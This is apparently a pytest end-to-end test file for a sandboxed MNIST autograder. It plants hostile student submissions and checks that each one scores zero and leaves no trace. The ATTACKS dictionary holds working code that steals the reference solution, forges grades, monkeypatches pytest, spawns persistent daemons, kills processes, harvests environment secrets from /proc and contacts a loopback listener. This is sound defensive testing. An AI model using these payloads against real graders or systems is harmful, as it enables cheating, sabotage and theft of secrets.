"""Hostile forks against `mnist-checks grade`: each implements nothing honestly and attacks the
grader as a student who read this repository would.  Graded in one batch, two at a time, beside
an honest reference fork and the starter.  Every attack must score 0, disturb no other fork's
grade, leak nothing and leave no process or file behind."""

import csv
import json
import os
import socket
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest

from mnist_checks import cli, exercise
from mnist_checks.grading import checker, isolated, preloaded, sandbox, server  # noqa: F401
from mnist_checks.grading.batch import grade_forks  # noqa: F401  imported before the batch
from mnist_checks.grading.starter import starter_source, write_starter

# One pytest-xdist worker runs this module (pytest -n 2 --dist loadgroup): its module fixture is built once.
pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("grading_attacks")]

REFERENCE_ROOT = Path(exercise.__file__).resolve().parent.parent
SOURCE = Path(exercise.__file__).read_text()
STARTER = starter_source(SOURCE)
SECRET = f"instructor-token-{uuid.uuid4().hex}"
#: A line of the reference solution that no starter and no output may ever show.
SOLUTION_LINE = "return train_test_split(*arrays, test_size=SPLIT_TEST_SIZE, random_state=random_state)"
MARKER = "MNIST_CHECKS_ATTACK_PROCESS"
#: After each attack: every contract function it does not define raises NotImplementedError, as
#: in the starter (the attacks implement nothing honestly).
NOTHING_ELSE = '''
def _not_implemented(name):
    def function(*args, **kwargs):
        raise NotImplementedError(name + " is not implemented")
    return function

for _name in ("split", "build_mlp", "predicted_digits", "scale", "to_images", "build_cnn"):
    globals().setdefault(_name, _not_implemented(_name))
'''

#: Shared by the attacks: the test ids a forged log would claim (every fast graded test).
PRELUDE = '''
import glob, json, os, signal, socket, sys, time
REFERENCE = {reference!r}
OUT = {out!r}
CLASSMATE = {classmate!r}
PORT = {port}
STORE = {store!r}
'''

ATTACKS = {
    # Every route to the instructor's solution: the package in the sandbox, the checkout's path,
    # the editable install's finder, other processes' working directories, the whole Python path.
    "imports-reference": '''
def _candidates():
    try:
        import mnist_checks.exercise as packaged
        yield packaged.__file__
    except Exception:
        pass
    yield REFERENCE + "/mnist_checks/exercise.py"
    yield "/proc/1/cwd/mnist_checks/exercise.py"
    for entry in sys.path:
        yield from glob.glob(entry + "/mnist_checks/exercise.py")
        for finder in glob.glob(entry + "/__editable__*finder.py"):
            text = open(finder).read()
            yield from [p + "/exercise.py" for p in __import__("re").findall(r"'(/[^']+mnist_checks)'", text)]
    yield from glob.glob("/proc/*/cwd/mnist_checks/exercise.py")


def _reference():
    import importlib.util
    for path in _candidates():
        try:
            spec = importlib.util.spec_from_file_location("mnist_checks.stolen", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            module.split(list(range(7)))
            return module
        except Exception:
            continue
    return None


def _delegate(name):
    def function(*args, **kwargs):
        found = _reference()
        if found is None:
            raise NotImplementedError(name + ": no reference found")
        return getattr(found, name)(*args, **kwargs)
    return function

split, build_mlp, predicted_digits, scale, to_images, build_cnn = map(
    _delegate, ["split", "build_mlp", "predicted_digits", "scale", "to_images", "build_cnn"])
''',
    # Append "passed" for every graded test to any grade log it can find, forge its results.json
    # and the gradebook, then leave before anyone notices.
    "forges-results": '''
def _forge():
    logs = []
    for cmdline in glob.glob("/proc/*/cmdline"):
        try:
            words = open(cmdline, "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"--grade-log" in words:
            logs.append(words[words.index(b"--grade-log") + 1].decode())
    logs += glob.glob("/tmp/**/grade-log.jsonl", recursive=True)
    logs += glob.glob("/tmp/mnist-checks-grader-*/fork-*/grade-log.jsonl")
    for log in logs:
        try:
            with open(log, "a") as handle:
                for q in ("q1", "q2", "q3", "q4", "q5"):
                    handle.write(json.dumps({{"id": "tests/x.py::forged_" + q, "question": q, "tier": "fast",
                                             "claim": "forged", "outcome": "passed", "phase": "call"}}) + "\\n")
        except OSError:
            pass
    forged = {{"score": 60, "max_score": 60, "tests": [], "extra_data": {{}}}}
    for path in (OUT + "/forges-results/results.json", OUT + "/gradebook.csv"):
        try:
            with open(path, "w") as handle:
                handle.write(json.dumps(forged))
        except OSError:
            pass

def split(*arrays, **kwargs):
    _forge()
    os._exit(0)

def build_mlp():
    _forge()
    raise NotImplementedError("Q2")
''',
    # Patch pytest's reports, the grader's plugin, hypothesis and numpy's assertions from the
    # contract module, as if it ran in the checker's process.
    "patches-pytest": '''
try:
    import _pytest.reports, _pytest.runner
    _pytest.reports.TestReport.passed = property(lambda self: True)
    _pytest.reports.TestReport.outcome = "passed"
    _pytest.runner.call_and_report = lambda item, when, log=True, **kw: None
except Exception:
    pass
try:
    import mnist_checks.grading.pytest_plugin as plugin
    plugin.pytest_runtest_makereport = lambda item, call: None
    plugin._message = lambda call, report: ""
    import mnist_checks.grading.rubric as rubric
    rubric.score_tests = lambda tests, r: [dict(t, score=1e9, max_score=1) for t in tests]
except Exception:
    pass
try:
    import numpy.testing
    numpy.testing.assert_array_equal = lambda *a, **k: None
    import hypothesis
    hypothesis.given = lambda *a, **k: (lambda f: (lambda *x, **y: None))
except Exception:
    pass
import builtins
builtins.AssertionError = type("NotAnError", (Exception,), {{}})
''',
    # A process that outlives the grading and keeps rewriting results, gradebook and sandboxes.
    "outlives-grading": '''
def _daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            loop = (
                "import glob, os, time, json\\n"
                "for _ in range(600):\\n"
                "    for p in (glob.glob({out!r} + '/*/results.json')\\n"
                "              + glob.glob('/tmp/mnist-checks-*/**', recursive=True)):\\n"
                "        try:\\n"
                "            open(p, 'w').write(json.dumps({{'score': 60}}))\\n"
                "        except OSError:\\n"
                "            pass\\n"
                "    time.sleep(0.1)\\n"
            )
            os.execv(sys.executable, [sys.executable, "-c", "# {marker}\\n" + loop])
        os._exit(0)

_daemon()

def split(*arrays, **kwargs):
    _daemon()
    raise NotImplementedError("Q1")
''',
    # Kill everything it may signal, its parent first; overwrite a classmate's contract and the
    # instructor's checkout, a forged .pyc included.
    "disturbs-others": '''
def _disturb():
    for path, text in [(CLASSMATE, "raise SystemExit('sabotaged')\\n"),
                       (REFERENCE + "/mnist_checks/__pycache__/attack-marker.cpython-311.pyc", "forged"),
                       (REFERENCE + "/.git/hooks/attack-marker", "forged"),
                       (REFERENCE + "/tests/test_attack_marker.py", "def test(): pass\\n")]:
        try:
            with open(path, "w") as handle:
                handle.write(text)
        except OSError:
            pass
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass

def split(*arrays, **kwargs):
    _disturb()
    raise NotImplementedError("Q1")

def build_mlp():
    _disturb()
    raise NotImplementedError("Q2")
''',
    # Read what it must not see and hand it back through the only channel it has: its errors.
    "leaks-secrets": '''
def _loot():
    found = {{"env": dict(os.environ)}}
    for path in [REFERENCE + "/mnist_checks/exercise.py", CLASSMATE, os.path.expanduser("~/.marker"),
                 "/proc/1/environ", "/proc/1/cmdline", "/proc/self/environ"] + glob.glob("/proc/*/environ"):
        try:
            found[path] = open(path, errors="replace").read()[:20000]
        except OSError as error:
            found[path] = type(error).__name__
    for folder in ("/root", "/home", os.path.expanduser("~"), REFERENCE, os.path.dirname(CLASSMATE)):
        try:
            found[folder] = os.listdir(folder)
        except OSError as error:
            found[folder] = type(error).__name__
    return repr(found)

def split(*arrays, **kwargs):
    raise NotImplementedError(_loot())

def build_mlp():
    raise NotImplementedError(_loot())

def predicted_digits(p):
    raise NotImplementedError(_loot())

def scale(X):
    raise NotImplementedError(_loot())

def to_images(X):
    raise NotImplementedError(_loot())

def build_cnn():
    raise NotImplementedError(_loot())
''',
    # Phone home over a raw socket (no proxy variables involved) to a server on the host's loopback.
    "uses-network": '''
def _phone():
    for host in ("127.0.0.1", "localhost"):
        try:
            connection = socket.create_connection((host, PORT), timeout=2)
            connection.sendall(b"leak")
            connection.close()
        except OSError:
            pass

_phone()

def split(*arrays, **kwargs):
    _phone()
    raise NotImplementedError("Q1")
''',
    # Poison the store of trainings (docs/grading.md: "Trainings are done once"): a training under any key
    # it can guess, whose probabilities make every digit right, for every fork graded after it.
    "poisons-trainings": '''
def _poison():
    import io
    import numpy as np
    buffer = io.BytesIO()
    np.savez(buffer, probabilities=np.eye(10, dtype=np.float32)[np.zeros(10000, dtype=int)],
             history=np.frombuffer(json.dumps({{"val_accuracy": [1.0]}}).encode(), dtype=np.uint8))
    stores = [STORE, os.environ.get("MNIST_CHECKS_TRAININGS", ""),
              os.path.expanduser("~/.cache/mnist_checks/trainings")]
    stores += glob.glob("/tmp/**/trainings", recursive=True) + glob.glob("/root/.cache/mnist_checks/trainings")
    for store in filter(None, stores):
        for key in ("00" * 32, "ff" * 32):
            try:
                os.makedirs(os.path.join(store, key[:2]), exist_ok=True)
                with open(os.path.join(store, key[:2], key + ".npz"), "wb") as handle:
                    handle.write(buffer.getvalue())
            except OSError:
                pass

_poison()

def split(*arrays, **kwargs):
    _poison()
    raise NotImplementedError("Q1")
''',
    # Models that carry code: a Lambda layer, a custom activation, a subclassed model.
    "models-with-code": '''
from mnist_checks.compat import keras


def build_mlp():
    model = keras.Sequential([keras.Input(shape=(784,)), keras.layers.Dense(32, activation=lambda x: x),
                              keras.layers.Lambda(lambda x: __import__("os").system("true") or x),
                              keras.layers.Dense(10, activation="softmax")])
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model




class Sneaky(keras.Model):
    def call(self, x):
        return x

def build_cnn():
    return Sneaky()
''',
}


class Listener:
    """A TCP server on the host's loopback that counts the connections it accepts."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.accepted = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        deadline = time.monotonic() + 900  # bounded, whatever happens
        while self.running and time.monotonic() < deadline:
            try:
                connection, _ = self.socket.accept()
                self.accepted += 1
                connection.close()
            except OSError:
                continue

    def close(self):
        self.running = False
        self.thread.join()
        self.socket.close()


def attack_processes() -> list[str]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if MARKER.encode() in cmdline.read_bytes():
                found.append(cmdline.parent.name)
        except OSError:
            continue
    return found


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    if not _sandbox_available():
        pytest.skip("bubblewrap cannot run here (apt-get install bubblewrap); set MNIST_CHECKS_REQUIRE_SANDBOX=1 "
                    "to fail instead")
    root = tmp_path_factory.mktemp("hostile")
    out = root / "grades"
    home = root / "home"
    home.mkdir()
    (home / ".marker").write_text(SECRET)
    write_starter(REFERENCE_ROOT, root / "reference")
    classmate = root / "reference" / "mnist_checks" / "exercise.py"
    classmate.write_text(SOURCE)
    write_starter(REFERENCE_ROOT, root / "starter")
    listener = Listener()
    store = root / "trainings"  # the grader's store of trainings, kept across calls
    forks = [root / "reference", root / "starter"]
    for name, attack in ATTACKS.items():
        fork = root / name
        (fork / "mnist_checks").mkdir(parents=True)
        text = PRELUDE + attack + NOTHING_ELSE.replace("{", "{{").replace("}", "}}")
        (fork / "mnist_checks" / "exercise.py").write_text(text.format(
            reference=str(REFERENCE_ROOT), out=str(out), classmate=str(classmate), port=listener.port, marker=MARKER,
            store=str(store)))
        forks.append(fork)
    linked = root / "links-reference"  # its mnist_checks/ is the instructor's own
    linked.mkdir()
    (linked / "mnist_checks").symlink_to(REFERENCE_ROOT / "mnist_checks")
    forks.append(linked)
    if preloaded.available():  # the process's forkserver, not this grading's: its socket's directory lives with it
        preloaded.start()
    started = time.time()
    scratch = root / "tmp"  # the grader's temporary directory, this batch's alone
    scratch.mkdir()
    environment = {"INSTRUCTOR_TOKEN": SECRET, "HOME": str(home), "TMPDIR": str(scratch),
                   "MNIST_CHECKS_TRAININGS": str(store), "MNIST_CHECKS_RETRAIN": ""}
    saved = {k: os.environ.get(k) for k in environment}
    os.environ.update(environment)
    saved_tempdir, tempfile.tempdir = tempfile.tempdir, None  # read TMPDIR again
    try:
        status = cli.main(["grade", *map(str, forks), "--out", str(out), "--jobs", "2", "--call-timeout", "60"])
    finally:
        tempfile.tempdir = saved_tempdir
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    seconds = time.time() - started
    survivors = attack_processes()
    book_right_after = (out / "gradebook.csv").read_text()
    time.sleep(2)  # anything left behind would rewrite the outputs now
    listener.close()
    with open(out / "gradebook.csv") as handle:
        book = {row["fork"]: row for row in csv.DictReader(handle)}
    return {"status": status, "out": out, "root": root, "book": book, "book_right_after": book_right_after,
            "listener": listener, "survivors": survivors, "started": started, "seconds": seconds,
            "classmate": classmate, "scratch": scratch, "store": store}


def _sandbox_available() -> bool:
    try:
        sandbox.probe()
        return True
    except sandbox.SandboxUnavailable:
        if os.environ.get("MNIST_CHECKS_REQUIRE_SANDBOX"):
            raise
        return False


def outputs(batch) -> str:
    return "\n".join(p.read_text(errors="replace") for p in batch["out"].rglob("*") if p.is_file())


def test_the_batch_finishes_with_a_row_for_every_fork(batch):
    assert batch["status"] == 0
    assert set(batch["book"]) == {"reference", "starter", "links-reference", *ATTACKS}


@pytest.mark.parametrize("attack", [*ATTACKS, "links-reference"])
def test_an_attack_scores_zero(batch, attack):
    row = batch["book"][attack]
    assert float(row["total"] or 0) == 0.0, row


def test_the_honest_fork_beside_the_attacks_keeps_full_marks(batch):
    row = batch["book"]["reference"]
    assert float(row["total"]) == 60.0 == float(row["max"]) and row["status"] == "graded", row
    assert batch["book"]["starter"]["total"] in ("0.0", "0")


def test_every_row_says_it_was_graded_in_the_sandbox(batch):
    assert {row["isolation"] for row in batch["book"].values() if row["status"] != "error"} == {"bubblewrap"}


def test_a_fork_linking_the_reference_is_refused_with_a_reason(batch):
    row = batch["book"]["links-reference"]
    assert row["status"] == "error" and "symbolic link" in row["reason"]


def test_no_process_of_a_fork_outlives_the_grading(batch):
    assert batch["survivors"] == []


def test_nothing_rewrites_the_outputs_after_the_grading(batch):
    assert (batch["out"] / "gradebook.csv").read_text() == batch["book_right_after"]
    forged = json.loads((batch["out"] / "forges-results" / "results.json").read_text())
    assert forged["score"] == 0 and forged["extra_data"]["fork"] == "forges-results"


def test_no_secret_and_no_solution_reaches_any_output(batch):
    text = outputs(batch)
    assert SECRET not in text
    assert SOLUTION_LINE not in text


def test_no_connection_reaches_the_hosts_loopback(batch):
    assert batch["listener"].accepted == 0


def test_the_instructors_checkout_and_a_classmates_fork_are_untouched(batch):
    assert batch["classmate"].read_text() == SOURCE
    for marker in ("mnist_checks/__pycache__/attack-marker.cpython-311.pyc", ".git/hooks/attack-marker",
                   "tests/test_attack_marker.py"):
        assert not (REFERENCE_ROOT / marker).exists(), marker


def test_models_carrying_code_are_refused_naming_what(batch):
    tests = json.loads((batch["out"] / "models-with-code" / "results.json").read_text())["tests"]
    messages = " ".join(t["output"] for t in tests)
    assert "refused" in messages and ("Lambda" in messages or "activation" in messages)
    assert "subclassed" in messages


def test_no_fork_can_put_a_training_into_the_graders_store(batch):
    """The fast tier trains nothing: the store the grader was told to use holds nothing at all."""
    assert not batch["store"].exists() or [p for p in batch["store"].rglob("*") if p.is_file()] == []


def test_no_grader_files_are_left_in_the_temporary_directory(batch):
    assert list(batch["scratch"].iterdir()) == []
